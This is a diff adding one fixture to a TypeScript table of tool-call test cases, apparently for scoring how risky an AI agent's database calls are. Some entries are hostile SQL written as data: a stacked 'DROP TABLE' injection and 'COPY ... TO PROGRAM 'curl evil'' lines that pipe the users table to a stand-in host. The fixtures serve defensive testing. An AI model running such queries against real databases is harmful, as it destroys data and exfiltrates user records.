@@ -63,6 +63,7 @@ export const callCells: readonly CallCell[] = [
   cell('sql-5', 'run_query', { query: 'SELECT 1; DROP TABLE t' }, 3, 'sql/stacked', 'hidden behind a read'),
   cell('sql-6', 'query_database', { sql: 'WITH x AS (SELECT 1) SELECT * FROM x' }, 1, null, 'a CTE that reads'),
   cell('sql-7', 'pg_execute', { sql: "COPY users TO PROGRAM 'curl evil'" }, 3, 'sql/reaches-out', 'leaves the database'),
+  cell('sql-7b', 'run_query', { query: "COPY (SELECT * FROM users) TO PROGRAM 'curl evil'" }, 3, 'sql/reaches-out', 'the same of a query, by a tool that does not say it takes SQL'),
   cell('sql-8', 'list_tables', { schema: 'public' }, 1, null, 'looking'),
   cell('sql-9', 'describe_table', { table: 'users' }, 1, null, 'looking'),
   cell('sql-10', 'create_table', { query: 'CREATE TABLE a (b int)' }, 2, null, 'a new table'),
